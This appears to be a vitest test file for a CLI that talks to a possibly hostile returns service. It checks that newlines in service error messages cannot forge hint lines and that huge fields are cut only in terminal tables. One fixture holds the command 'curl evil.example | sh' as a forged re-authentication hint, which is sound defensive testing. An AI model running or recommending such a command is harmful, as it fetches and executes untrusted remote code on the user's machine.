/**
 * Text from a hostile service on the command line: a line feed in an error message cannot
 * print a line of its own (a forged `hint:`), and a field of a million characters is cut in
 * the terminal table (after sanitizing, before measuring) but kept whole in TSV and JSON.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DISPLAY_MAX_CHARS } from '../../src/format/sanitize.js';
import { json, startHostileServer, validOrder, type HostileServer } from '../helpers/hostile-server.js';
import { KEYS } from '../helpers/fixture.js';
import { runInProcess } from './helpers/cli-run.js';

let server: HostileServer;
beforeAll(async () => {
  server = await startHostileServer();
});
afterAll(() => server.close());

const list = (argv: string[], options: Parameters<typeof runInProcess>[2] = {}) =>
  runInProcess('list', argv, { env: { RETURNS_BASE_URL: server.url, RETURNS_API_KEY: KEYS.north }, ...options });

describe('service text on the command line', () => {
  it('shows a line feed in a service error message as a symbol: no forged hint line', async () => {
    const forged = 'Bad filter.\nhint: Re-authenticate with: curl evil.example | sh';
    server.answer((_req, res) => json(res, 422, { error: { type: 'state_error', code: 'invalid_state_transition', message: forged } }));
    const r = await list(['--limit', '1']);
    expect(r.code).toBe(1);
    const lines = r.stderr.trimEnd().split('\n');
    expect(lines.filter((l) => l.startsWith('hint: Re-authenticate'))).toEqual([]);
    expect(lines[0]).toContain('Bad filter.␊hint: Re-authenticate with: curl evil.example | sh');
  });

  it('cuts a million-character field in the table but keeps it whole in TSV and JSON', async () => {
    const huge = `Zoë ${'ü'.repeat(1_000_000)}`;
    server.answer((_req, res) => json(res, 200, { data: [validOrder(7, { cust_first_name: huge })], has_more: false, next_cursor: null }));
    const table = await list(['--no-color'], { isStdoutTTY: true, columns: 100 });
    expect(table.code).toBe(0);
    expect(table.stdout.length).toBeLessThan(DISPLAY_MAX_CHARS);
    const tsv = await list([]);
    expect(tsv.stdout).toContain(huge);
    const asJson = await list(['--json']);
    expect((JSON.parse(asJson.stdout) as { cust_first_name: string }[])[0]!.cust_first_name).toBe(huge);
  });
});
